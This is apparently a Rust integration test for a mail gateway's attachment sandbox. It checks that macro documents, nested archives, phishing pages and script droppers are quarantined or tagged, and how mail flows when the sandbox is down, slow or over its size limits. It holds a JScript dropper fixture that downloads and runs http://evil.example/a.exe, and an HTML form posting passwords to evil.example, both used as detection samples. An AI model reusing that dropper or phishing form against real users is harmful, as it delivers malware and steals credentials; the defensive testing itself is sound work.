//! The whole way of attachments: what acts is kept or marked with what was seen in it, what does nothing passes, a role that is away,
//! slow or without cells loses no mail, and what was seen once is not taken apart again.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::SocketAddr;
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::time::{Duration, Instant};

use postern_tests::backend::Backend;
use postern_tests::documents::{archive, document, macro_document, noise, program};
use postern_tests::gateway::{Gateway, binary};
use postern_tests::network::{alone, lacking};
use postern_tests::smtp::{mail_with, send};
use serde_json::Value;

const LIMIT: Duration = Duration::from_secs(15);
const TIMEOUT: Duration = Duration::from_secs(3);

fn smtp() -> SocketAddr {
    "127.0.0.1:2525".parse().unwrap()
}

fn settings(sandbox: &str) -> String {
    format!(
        "[smtp]\nlisten = [\"127.0.0.1:2525\"]\ntrusted_listen = []\n[console]\nlisten = []\n[dns]\nenabled = false\n\
         [edge]\nallow = [\"127.0.0.0/8\"]\n[filter.bayes]\nenabled = false\n[sandbox]\ntimeout = \"3s\"\nopen_documents = \"none\"\n{sandbox}\n\
         [[domains]]\nname = \"example.net\"\nbackends = [{{ host = \"127.0.0.1\", port = 2524, tls = \"off\" }}]\n"
    )
}

fn node(dir: &Path, sandbox: &str) -> Gateway {
    Gateway::node(&binary(), dir, &settings(sandbox)).unwrap()
}

fn deliver(subject: &str, text: &str, attachments: &[(&str, &str, &[u8])]) -> String {
    send(smtp(), "anna@example.org", &["erika@example.net"], &mail_with(subject, text, attachments)).unwrap()
}

/// The journey of the newest mail with this subject.
fn journey(gateway: &Gateway, subject: &str) -> Value {
    gateway.journey(subject, LIMIT).unwrap()
}

/// The sandbox's symbols in a journey, each with what it saw.
fn seen(journey: &Value) -> Vec<(String, String)> {
    fn walk(value: &Value, found: &mut Vec<(String, String)>) {
        match value {
            Value::Array(all) => all.iter().for_each(|v| walk(v, found)),
            Value::Object(fields) => {
                if let Some(symbol) = fields.get("symbol").and_then(Value::as_str).filter(|s| s.starts_with("SANDBOX_")) {
                    found.push((symbol.to_owned(), fields["evidence"].as_str().unwrap_or_default().to_owned()));
                }
                fields.values().for_each(|v| walk(v, found));
            }
            _ => {}
        }
    }
    let mut found = Vec::new();
    walk(journey, &mut found);
    found.sort();
    found.dedup();
    found
}

fn symbols(journey: &Value) -> Vec<String> {
    seen(journey).into_iter().map(|(symbol, _)| symbol).collect()
}

struct Case {
    subject: &'static str,
    text: &'static str,
    name: &'static str,
    content_type: &'static str,
    content: Vec<u8>,
    action: &'static str,
    symbols: &'static [&'static str],
    /// Stands in one of their evidences.
    place: &'static str,
}

const DROPPER: &[u8] =
    b"WScript.Sleep(60000); var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://evil.example/a.exe', false); x.send();\n\
var s = new ActiveXObject('ADODB.Stream'); s.open(); s.write(x.responseBody); s.saveToFile('C:\\\\x\\\\run.exe');\n\
new ActiveXObject('WScript.Shell').Run('C:\\\\x\\\\run.exe');";

/// What a script did, by the step of the journey that tells of the attachments.
fn timeline(journey: &Value) -> Vec<(String, String)> {
    let steps = journey["steps"].as_array().unwrap();
    let apart = steps.iter().find(|s| s["event"] == "taken-apart").unwrap_or_else(|| panic!("{journey}"));
    let events = apart["attachments"][0]["report"]["timeline"].as_array().unwrap();
    events.iter().map(|e| (e["action"].as_str().unwrap().to_owned(), e["text"].as_str().unwrap().to_owned())).collect()
}

fn cases() -> Vec<Case> {
    let page = b"<!DOCTYPE html><html><body><form method=post action='https://evil.example/a.php'><input type=password name=p></form></body></html>";
    vec![
        Case {
            subject: "A letter with a macro",
            text: "",
            name: "letter.docm",
            content_type: "application/vnd.ms-word.document.macroEnabled.12",
            content: macro_document(),
            action: "quarantine",
            symbols: &["SANDBOX_MACROS", "SANDBOX_MACRO_AUTOSTART", "SANDBOX_MACRO_SUSPICIOUS", "SANDBOX_SCRIPT_STARTS"],
            place: "letter.docm/word/vbaProject.bin",
        },
        Case {
            subject: "A program in an archive in an archive",
            text: "",
            name: "report.zip",
            content_type: "application/zip",
            content: archive(&[("inner.zip", &archive(&[("report.dat", &program())], None))], None),
            action: "tag",
            symbols: &["SANDBOX_PROGRAM"],
            place: "report.zip/inner.zip/report.dat",
        },
        Case {
            subject: "A page that asks",
            text: "",
            name: "login.html",
            content_type: "text/html",
            content: page.to_vec(),
            action: "quarantine",
            symbols: &["SANDBOX_HTML_PASSWORD_FORM"],
            place: "https://evil.example/a.php",
        },
        Case {
            subject: "Locked",
            text: "\nThe password is: S3cret-4711\n",
            name: "locked.zip",
            content_type: "application/zip",
            content: archive(&[("scan.dat", &program())], Some("S3cret-4711")),
            action: "quarantine",
            symbols: &["SANDBOX_PASSWORD_IN_MAIL", "SANDBOX_PROGRAM"],
            place: "locked.zip/scan.dat",
        },
        Case {
            subject: "A script that loads and starts",
            text: "",
            name: "scan.zip",
            content_type: "application/zip",
            content: archive(&[("inner.zip", &archive(&[("scan.js", DROPPER)], None))], None),
            action: "quarantine",
            symbols: &[
                "SANDBOX_SCRIPT",
                "SANDBOX_SCRIPT_DROPPER",
                "SANDBOX_SCRIPT_LOADS",
                "SANDBOX_SCRIPT_STARTS",
                "SANDBOX_SCRIPT_WAITS",
                "SANDBOX_SCRIPT_WRITES",
            ],
            place: "scan.zip/inner.zip/scan.js: GET http://evil.example/a.exe",
        },
        Case {
            subject: "A plain letter",
            text: "",
            name: "letter.docx",
            content_type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            content: document(&[("word/document.xml", b"<w:document/>"), ("word/media/image1.png", b"\x89PNG\r\n\x1a\n")]),
            action: "accept",
            symbols: &[],
            place: "",
        },
        Case {
            subject: "Notes in an archive",
            text: "",
            name: "notes.zip",
            content_type: "application/zip",
            content: archive(&[("notes.txt", b"hello"), ("plan.pdf", b"%PDF-1.4\n%%EOF")], None),
            action: "accept",
            symbols: &[],
            place: "",
        },
    ]
}

#[test]
fn attachments_are_judged_by_what_is_in_them_and_a_missing_role_loses_no_mail() {
    if let Some(why) = lacking(&[]) {
        println!("skipped: {why}");
        return;
    }
    alone().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let backend = Backend::smtp("127.0.0.1:2524".parse().unwrap()).unwrap();
    let mut passed = 0;

    // With the role: kept, marked or passed by what is inside.
    let dir = scratch.path().join("judging");
    let gateway = node(&dir, "");
    let sandbox = Gateway::sandbox(&binary(), &dir, &settings("")).unwrap();
    let opened = || gateway.ask(&["sandbox", "status"]).unwrap()["opened"].as_u64().unwrap();
    let cases = cases();
    for (n, case) in cases.iter().enumerate() {
        let said = deliver(case.subject, case.text, &[(case.name, case.content_type, &case.content)]);
        assert!(said.starts_with("250 2.0.0"), "{}: {said}", case.subject);
        let journey = journey(&gateway, case.subject);
        assert_eq!(symbols(&journey), case.symbols, "{}: {journey}", case.subject);
        assert_eq!(journey["summary"]["action"], case.action, "{}: {journey}", case.subject);
        assert!(case.place.is_empty() || seen(&journey).iter().any(|(_, evidence)| evidence.contains(case.place)), "{:?}", seen(&journey));
        assert_eq!(opened(), n as u64 + 1);
        passed += usize::from(case.action != "quarantine");
    }
    backend.wait_for(passed, LIMIT).unwrap();
    let kept = gateway.ask(&["quarantine", "list"]).unwrap();
    assert_eq!(kept["mails"].as_array().map(Vec::len), Some(4), "{kept}");

    let events = timeline(&journey(&gateway, "A script that loads and starts"));
    for (action, text) in
        [("wait", "60000 ms"), ("load", "GET http://evil.example/a.exe"), ("write", "C:\\x\\run.exe"), ("start", "C:\\x\\run.exe")]
    {
        assert!(events.iter().any(|e| (e.0.as_str(), e.1.as_str()) == (action, text)), "{action}: {events:?}");
    }

    // The same file again is known; of what was locked it is not said what another mail's words would open.
    let before = opened();
    for (subject, case) in [("A letter again", &cases[0]), ("A plain letter again", &cases[5])] {
        deliver(subject, "", &[(case.name, case.content_type, &case.content)]);
        assert_eq!(symbols(&journey(&gateway, subject)), case.symbols);
    }
    passed += 1;
    assert_eq!(opened(), before, "taken apart once");
    deliver("Locked again", "", &[("locked.zip", "application/zip", &cases[3].content)]);
    assert_eq!(symbols(&journey(&gateway, "Locked again")), ["SANDBOX_ENCRYPTED"]);
    assert_eq!(opened(), before + 1);
    passed += 1;

    // It ends under the node: mail passes, is said to, and is looked at when it is there again.
    drop(sandbox);
    for subject in ["Nobody looks", "Nobody looks again"] {
        assert!(
            deliver(subject, "", &[("new.zip", "application/zip", &archive(&[("a.txt", subject.as_bytes())], None))]).starts_with("250")
        );
        assert_eq!(symbols(&journey(&gateway, subject)), ["SANDBOX_UNAVAILABLE"]);
        passed += 1;
    }
    assert_eq!(gateway.log().matches("an attachment is not taken apart").count(), 1, "once, not for every mail:\n{}", gateway.log());
    let sandbox = Gateway::sandbox(&binary(), &dir, &settings("")).unwrap();
    assert!(deliver("Looked at again", "", &[("new.zip", "application/zip", &archive(&[("a.txt", b"x")], None))]).starts_with("250"));
    assert_eq!(symbols(&journey(&gateway, "Looked at again")), [] as [&str; 0]);
    assert!(gateway.log().contains("the role sandbox answers again"), "{}", gateway.log());
    passed += 1;
    drop((sandbox, gateway));
    backend.wait_for(passed, LIMIT).unwrap();

    // Away from the beginning: as the settings say.
    let zip = archive(&[("a.txt", b"hello")], None);
    for (when, code, action) in [("pass", "250", "accept"), ("quarantine", "250", "quarantine"), ("defer", "451 4.7.1", "defer")] {
        let gateway = node(&scratch.path().join(when), &format!("when_unavailable = \"{when}\""));
        let said = deliver("Not opened", "", &[("new.zip", "application/zip", &zip)]);
        assert!(said.starts_with(code), "{when}: {said}");
        let journey = journey(&gateway, "Not opened");
        assert_eq!((symbols(&journey), &journey["summary"]["action"]), (vec!["SANDBOX_UNAVAILABLE".to_owned()], &Value::from(action)));
        if when != "pass" {
            assert_eq!(journey["summary"]["reason"], "check-unavailable", "{journey}");
        }
        // Without an attachment nobody has to be asked.
        assert!(deliver("Text alone", "", &[]).starts_with("250"), "{when}");
        passed += 1 + usize::from(when == "pass");
    }

    // Somebody listens and says nothing: the wait ends when the settings say.
    let dir = scratch.path().join("silent");
    std::fs::create_dir_all(dir.join("run")).unwrap();
    let _silent = UnixListener::bind(dir.join("run/sandbox.sock")).unwrap();
    let gateway = node(&dir, "");
    let began = Instant::now();
    assert!(deliver("Never answered", "", &[("new.zip", "application/zip", &zip)]).starts_with("250"));
    let took = began.elapsed();
    assert!(took >= TIMEOUT && took < TIMEOUT + Duration::from_secs(3), "{took:?}");
    assert_eq!(symbols(&journey(&gateway, "Never answered")), ["SANDBOX_UNAVAILABLE"]);
    passed += 1;
    drop(gateway);

    // What takes too long is ended and told on; what is too large, or one too many, is left out: the mail passes.
    let dir = scratch.path().join("limits");
    let limits = "max_size = 500000\nmax_attachments = 2\nat_once = 1\nwaiting = 0";
    let gateway = node(&dir, limits);
    let _sandbox = Gateway::sandbox(&binary(), &dir, &settings(limits)).unwrap();
    let large = noise(600_000);
    assert!(deliver("Too large", "", &[("large.bin", "application/octet-stream", &large)]).starts_with("250"));
    let left_out = seen(&journey(&gateway, "Too large"));
    assert_eq!(left_out, [("SANDBOX_LEFT_OUT".into(), "large.bin: 600000 octets, and 500000 at most are taken apart".into())]);
    let files: Vec<(String, Vec<u8>)> = (0..400).map(|n| (format!("{n}.bin"), noise(64))).collect();
    let files: Vec<(&str, &[u8])> = files.iter().map(|(n, c)| (n.as_str(), c.as_slice())).collect();
    let words: String = (0..64).map(|n| format!("word{n} ")).collect();
    assert!(deliver("Slow", &words, &[("slow.zip", "application/zip", &archive(&files, Some("?")))]).starts_with("250"));
    assert_eq!(symbols(&journey(&gateway, "Slow")), ["SANDBOX_CELL_TIMEOUT"]);
    passed += 2;

    let all = backend.wait_for(passed, LIMIT).unwrap();
    assert_eq!(all.len(), passed);
}
